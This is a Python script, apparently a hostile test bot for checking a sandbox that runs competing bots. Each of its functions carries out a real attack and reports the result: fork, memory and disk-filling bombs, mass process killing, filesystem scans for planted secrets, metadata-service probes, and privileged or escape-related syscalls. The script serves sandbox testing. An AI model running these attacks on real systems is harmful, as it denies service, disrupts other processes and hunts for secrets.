"""A bot that tries to do harm: `bot.py ATTACK [ARGUMENT...]`, one function per attack.

Each attack really tries, and says what it got as one line of JSON on standard error. It needs nothing but the
standard library, so it runs in any sandbox that has a Python. No attack knows how it is shut in.
Over 400 lines, because a bundle of one file runs anywhere and each attack is a function of its own.
"""

# An attack is a system call, and reads best as one.
# ruff: noqa: PTH101, PTH102, PTH104, PTH108, PTH109, PTH110, PTH116, PTH118, PTH120, PTH123, PTH208

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import resource
import signal
import socket
import stat
import sys
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
SEAT = os.path.dirname(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
"""The folder of its own socket."""
HERE = os.getcwd()
"""Its bundle."""
MARK = b"arena-" + b"canary-"
"""What every planted secret starts with; written in two parts, so that this file does not hold it."""


def say(**found: object) -> None:
    """Tell what was found."""
    os.write(2, json.dumps(found).encode() + b"\n")


def error_of(attempt: Callable[[], object]) -> str:
    """Return the name of the error that an attempt meets, or "done"."""
    try:
        attempt()
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return "done"


def listen() -> socket.socket:
    """Listen where the arena dials, as an honest bot does."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
    listener.listen()
    return listener


def wait_forever() -> None:
    """Stay alive until killed."""
    while True:
        signal.pause()


def search(*places: str) -> None:
    """S6, S7: read every file that can be read, below / and at the places named; look for planted secrets."""
    hits, seen = [], 0
    for root in ("/", HERE, *places):
        for folder, folders, names in os.walk(root, onerror=None):
            if folder == "/":
                folders[:] = [
                    name for name in folders if name not in {"usr", "lib", "lib64", "bin", "sbin", "opt"}
                ]
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISREG(os.stat(path).st_mode) or path.startswith("/proc/"):
                        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                        try:
                            seen += 1
                            if MARK in os.read(descriptor, 1 << 20):
                                hits.append(path)
                        finally:
                            os.close(descriptor)
                except OSError:
                    continue
    environment = "\0".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    opened = {place: error_of(lambda place=place: os.close(os.open(place, os.O_RDONLY))) for place in places}
    say(hits=hits, seen=seen, in_environment=MARK in environment, opened=opened)


def processes() -> None:
    """S8: find every process that can be signalled or seen."""
    met = {pid: error_of(lambda pid=pid: os.kill(pid, 0)) for pid in range(1, 70_000)}
    seen = [pid for pid, result in met.items() if result != "ESRCH"]
    touched = [pid for pid, result in met.items() if result == "done"]
    try:
        proc = " ".join(sorted(os.listdir("/proc")))
    except OSError as error:
        proc = errno.errorcode[error.errno or 0]
    say(seen=seen, touched=touched, proc=proc, me=os.getpid())


def strike(*victims: str) -> None:
    """S11, S12: stop and kill the first process, its parent, its victims and all it can name; live on."""
    me, numbers = os.getpid(), (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL)
    aims = {1, os.getppid(), *map(int, victims), *range(2, 3000)} - {0, me}
    met: dict[str, int] = {}
    for pid in sorted(aims):
        for number in numbers:
            result = error_of(lambda pid=pid, number=number: os.kill(pid, number))
            met[result] = met.get(result, 0) + 1
        result = error_of(lambda pid=pid: os.killpg(pid, signal.SIGKILL))
        met[result] = met.get(result, 0) + 1
    traced = {
        "attach": LIBC.ptrace(16, ctypes.c_long(int(victims[0])), 0, 0),
        "traceme": LIBC.ptrace(0, 0, 0, 0),
    }
    say(met=met, traced=traced)
    wait_forever()


def network(port: str) -> None:
    """S9, S10: every family and type of socket, and connections to this machine and a metadata service."""
    got = {}
    for family in range(64):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            result = error_of(lambda family=family, kind=kind: socket.socket(family, kind).close())
            if family != socket.AF_UNIX and result != "EAFNOSUPPORT":
                got[f"{family}/{kind}"] = result
    tried = {}
    for host in ("127.0.0.1", "169.254.169.254", "::1"):
        tried[host] = error_of(lambda host=host: socket.create_connection((host, int(port)), 1))
    say(unexpected=got, tried=tried)


def neighbours(abstract: str, *paths: str) -> None:
    """S16, S17: reach a socket of the host or of another bot, and take the name of one."""
    tried = {}
    taken = socket.socket(socket.AF_UNIX)
    bound = error_of(lambda: taken.bind("\0" + abstract))
    for path in (*paths, "\0" + abstract):
        with socket.socket(socket.AF_UNIX) as caller:
            tried[path.replace("\0", "@")] = error_of(lambda path=path, caller=caller: caller.connect(path))
    if bound == "done":
        taken.listen()
    say(tried=tried, bound=bound)
    if bound == "done":
        taken.accept()
        say(robbed=True)
    wait_forever()


def scribble() -> None:
    """S19: write the program's own folder, the system and everything above."""
    tried = {}
    for path in (
        f"{HERE}/new",
        f"{HERE}/bot.py",
        "/usr/new",
        "/usr/bin/env",
        "/new",
        "/etc/new",
        "/opt/new",
        "/dev/new",
    ):
        tried[path] = error_of(lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_CREAT)))
    tried["chmod"] = error_of(lambda: os.chmod(f"{HERE}/bot.py", 0o777))
    tried["unlink"] = error_of(lambda: os.unlink(f"{HERE}/bot.py"))
    tried["rename"] = error_of(lambda: os.rename(f"{HERE}/bot.py", f"{HERE}/other"))
    tried["utime"] = error_of(lambda: os.utime(f"{HERE}/bot.py"))
    tried["mkdir"] = error_of(lambda: os.mkdir(f"{HERE}/folder"))
    say(tried=tried)


def core() -> None:
    """S26: die with a core dump."""
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    say(hard=resource.getrlimit(resource.RLIMIT_CORE)[1], raise_it=error_of(raise_core))
    os.kill(os.getpid(), signal.SIGSEGV)


def raise_core() -> None:
    """Ask for more core than was given."""
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
    except ValueError as error:
        raise PermissionError(errno.EPERM, "not allowed") from error


CALLS = {
    # name: ((x86-64, aarch64), arguments)
    "add_key": ((248, 217), (0, 0, 0, 0, -2)),
    "request_key": ((249, 218), (0, 0, 0, 0)),
    "keyctl": ((250, 219), (0, -3, 0)),
    "shmget": ((29, 194), (0, 4096, 0o1600)),
    "semget": ((64, 190), (0, 1, 0o1600)),
    "msgget": ((68, 186), (0, 0o1600)),
    "mq_open": ((240, 180), (0, 0o102, 0o600, 0)),
    "unshare user": ((272, 97), (0x10000000,)),
    "unshare mount": ((272, 97), (0x20000,)),
    "setns": ((308, 268), (0, 0)),
    "clone user": ((56, 220), (0x10000000 | 17, 0, 0, 0, 0)),
    "mount": ((165, 40), (0, 0, 0, 0, 0)),
    "umount2": ((166, 39), (0, 2)),
    "pivot_root": ((155, 41), (0, 0)),
    "chroot": ((161, 51), (0,)),
    "open_tree": ((428, 428), (-100, 0, 1)),
    "fsopen": ((430, 430), (0, 0)),
    "bpf": ((321, 280), (0, 0, 0)),
    "perf_event_open": ((298, 241), (0, 0, -1, -1, 0)),
    "userfaultfd": ((323, 282), (0,)),
    "io_uring_setup": ((425, 425), (1, 0)),
    "io_setup": ((206, 0), (1, 0)),
    "sched_setattr": ((314, 274), (0, 0, 0)),
    "prctl core": ((157, 167), (62, 1, 0, 0, 0)),
    "ptrace": ((101, 117), (0, 0, 0, 0)),
    "process_vm_readv": ((310, 270), (1, 0, 0, 0, 0, 0)),
    "pidfd_getfd": ((438, 438), (0, 0, 0)),
    "kcmp": ((312, 272), (1, 1, 0, 0, 0)),
    "personality": ((135, 92), (0xFFFFFFFF,)),
    "settimeofday": ((164, 170), (0, 0)),
    "syslog": ((103, 116), (10, 0, 0)),
    "inotify_init1": ((294, 26), (0,)),
    "fanotify_init": ((300, 262), (0, 0)),
    "sched_setaffinity": ((203, 122), (0, 0, 0)),
    "swapoff": ((168, 225), (0,)),
    "reboot": ((169, 142), (0, 0, 0, 0)),
    "init_module": ((175, 105), (0, 0, 0)),
    "name_to_handle_at": ((303, 264), (0, 0, 0, 0, 0)),
}


def forbidden() -> None:
    """S27, S28, S30: call what no bot has a use for, by number."""
    column = os.uname().machine == "aarch64"
    found = {}
    for name, (numbers, arguments) in CALLS.items():
        ctypes.set_errno(0)
        result = LIBC.syscall(numbers[column], *[ctypes.c_long(value) for value in arguments])
        if name.startswith("clone") and result == 0:
            os._exit(0)
        found[name] = "done" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    device = error_of(lambda: os.mknod(f"{SEAT}/device", 0o600 | stat.S_IFCHR, os.makedev(1, 1)))
    fifo = error_of(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
    nice = error_of(lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
    suid = error_of(lambda: os.setuid(0))
    say(calls=found, device=device, fifo=fifo, nice=nice, suid=suid)


def descriptors() -> None:
    """S31: look for descriptors of the arena."""
    open_ones = [number for number in range(3, 256) if error_of(lambda n=number: os.fstat(n)) == "done"]
    say(open=open_ones)


def fork_bomb() -> None:
    """S1: as many processes as one can get, each forking on without a pause."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    made = 0
    while True:
        try:
            if os.fork() == 0:
                made = 0
            else:
                made += 1
        except OSError as error:
            if made:
                say(stopped=errno.errorcode[error.errno or 0])
            made = 0


def zombies() -> None:
    """S15: as many dead children as one can have, none of them reaped."""
    made = 0
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError as error:
            say(stopped=errno.errorcode[error.errno or 0], made=made)
            wait_forever()
        made += 1


def memory_bomb() -> None:
    """S2: native memory, really touched."""
    kept = []
    try:
        while True:
            block = mmap.mmap(-1, 16 << 20)
            for page in range(0, 16 << 20, 4096):
                block[page] = 1
            kept.append(block)
    except (OSError, MemoryError):
        say(stopped=len(kept))
        wait_forever()


def family_bomb() -> None:
    """S3: twenty children of 200 MiB each."""
    for _ in range(20):
        if os.fork() == 0:
            block = bytearray(200 << 20)
            for page in range(0, len(block), 4096):
                block[page] = 1
            wait_forever()
    wait_forever()


def mute_family_bomb() -> None:
    """S3: the same, with nothing open by which one could hear of it."""
    for descriptor in range(3):
        os.close(descriptor)
    family_bomb()


def fill_files(folder: str = SEAT) -> None:
    """S4: fill a folder with large files; keeps the error that ended it."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    ends, written, data = [], 0, b"x" * (1 << 16)
    found = os.statvfs(folder) if Path(folder).is_dir() else None
    for number in range(64):
        try:
            with open(f"{folder}/{number}", "wb", buffering=0) as target:
                while True:
                    written += target.write(data)
        except OSError as error:
            ends.append(errno.errorcode[error.errno or 0])
    room = found.f_blocks * found.f_frsize if found else 0
    say(ends=sorted(set(ends)), written=written, room=room)


def fill_inodes(folder: str = SEAT) -> None:
    """S5: as many empty files as one can make, and where that is refused, as many sockets."""
    for number in range(2_000_000):
        try:
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            with socket.socket(socket.AF_UNIX) as made:
                if error_of(lambda made=made, number=number: made.bind(f"{folder}/{number}")) != "done":
                    break
    wait_forever()


def stubborn() -> None:
    """S13: block and ignore every signal, then stop itself."""
    for number in range(1, signal.NSIG):
        error_of(lambda number=number: signal.signal(number, signal.SIG_IGN))
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
    say(ready=True)
    os.kill(os.getpid(), signal.SIGSTOP)
    while True:
        pass


def daemonise() -> None:
    """S14: fork twice with new sessions, close everything, exit; the grandchild stays."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            say(daemon=os.getpid())
            for descriptor in (0, 1, 2, reader):
                os.close(descriptor)
            os.write(writer, b"x")
            os.close(writer)
            wait_forever()
        os._exit(0)
    os.close(writer)
    os.read(reader, 1)
    os._exit(0)


def flood(mebibytes: str) -> None:
    """S20: flood both outputs."""
    block = b"\x1b[31mflood \xff" * 8192
    for _ in range(int(mebibytes) * (1 << 20) // len(block) + 1):
        os.write(1, block)
        view = memoryview(block)
        while view:
            view = view[os.write(2, view) :]


def spin() -> None:
    """Use the processor without end, in two processes."""
    say(ready=True)
    os.fork()
    while True:
        pass


def core_number() -> None:
    """Tell on which cores it may run, before and after asking for all."""
    before = sorted(os.sched_getaffinity(0))
    asked = error_of(lambda: os.sched_setaffinity(0, range(os.cpu_count() or 1)))
    say(before=before, asked=asked, after=sorted(os.sched_getaffinity(0)))


def serve() -> None:
    """Listen and count who comes; for the victims of other attacks."""
    listener = listen()
    say(ready=True)
    while True:
        listener.accept()
        say(visited=True)


def leave(code: str) -> None:
    """Exit with a status."""
    sys.exit(int(code))


def squat(kind: str, target: str) -> None:
    """S18: put something else where the socket should be."""
    place = Path(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
    if kind == "link":
        made = error_of(lambda: place.symlink_to(target))
    elif kind == "file":
        made = error_of(lambda: place.write_text("not a socket", encoding="ascii"))
    say(made=made)
    wait_forever()


HINT_GET, HINT_SET = 1035, 1036
SHARED = [
    *(f"/dev/{name}" for name in ("null", "zero", "full", "random", "urandom")),
    *sorted(os.path.join(HERE, name) for name in os.listdir(HERE)),
    *(os.path.join("/usr/bin", name) for name in sorted(os.listdir("/usr/bin"))[:400:8]),
]
"""What other sandboxes of this machine see too."""


def marks_left() -> list[str]:
    """Return everything of the shared files that a former match could have changed."""
    found = []
    for path in SHARED:
        status = os.lstat(path)
        times = (status.st_mtime_ns, status.st_atime_ns, status.st_ctime_ns)
        found.append(f"{path} {times} {status.st_mode:o} {status.st_nlink} {hint_of(path, HINT_GET)}")
    names = [
        f"{folder}/mark" for folder in (SEAT, HERE, "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue")
    ]
    found += [f"{path} {os.path.exists(path)}" for path in names]
    found.append(f"shm {LIBC.shmget(77, 0, 0)} queue {LIBC.msgget(77, 0)} semaphore {LIBC.semget(77, 0, 0)}")
    return found


def hint_of(path: str, command: int) -> str:
    """Ask for a file's hint, or set it."""
    try:
        with open(path, "rb", buffering=0) as shared:
            return fcntl.fcntl(shared, command, (3).to_bytes(8, sys.byteorder)).hex()
    except OSError as error:
        return errno.errorcode[error.errno or 0]


def look() -> None:
    """S33: look for a mark that an earlier match has left."""
    say(marks=marks_left())


def mark() -> None:
    """S33: leave a mark wherever a later match could find it; tells what could be done to each thing."""
    tried: dict[str, str] = {}
    for path in SHARED:
        tried[f"{path} times"] = error_of(lambda path=path: os.utime(path))
        tried[f"{path} mode"] = error_of(lambda path=path: os.chmod(path, 0o777))
        tried[f"{path} hint"] = hint_of(path, HINT_SET)
        tried[f"{path} attribute"] = error_of(lambda path=path: os.setxattr(path, "user.mark", b"1"))
        with contextlib.suppress(OSError), open(path, "rb", buffering=0) as shared:
            shared.read(64)
            tried[f"{path} residency"] = error_of(
                lambda s=shared: os.preadv(s.fileno(), [bytearray(1)], 0, os.RWF_NOWAIT)
            )
            tried[f"{path} lock"] = error_of(lambda shared=shared: fcntl.flock(shared, fcntl.LOCK_SH))
            tried[f"{path} lease"] = error_of(
                lambda s=shared: fcntl.fcntl(s, fcntl.F_SETLEASE, fcntl.F_RDLCK)
            )
    for folder in (HERE, "/var/tmp", "/run", "/dev/mqueue", "/tmp", "/dev/shm"):
        tried[f"{folder} file"] = error_of(lambda f=folder: os.close(os.open(f"{f}/mark", os.O_CREAT)))
    error_of(lambda: os.close(os.open(f"{SEAT}/mark", os.O_CREAT)))
    for name, result in (("shm", LIBC.shmget(77, 4096, 0o1666)), ("queue", LIBC.msgget(77, 0o1666))):
        tried[name] = "done" if result >= 0 else "refused"
    say(done=[name for name, result in tried.items() if result == "done"], tried=len(tried))


ATTACKS: dict[str, Callable[..., None]] = {
    function.__name__: function
    for function in (
        *(look, mark, strike, zombies),
        *(search, processes, network, neighbours, scribble, core, forbidden, descriptors, fork_bomb),
        *(
            memory_bomb,
            family_bomb,
            mute_family_bomb,
            fill_files,
            fill_inodes,
            stubborn,
            daemonise,
            flood,
            spin,
            core_number,
        ),
        *(serve, leave, squat, wait_forever),
    )
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
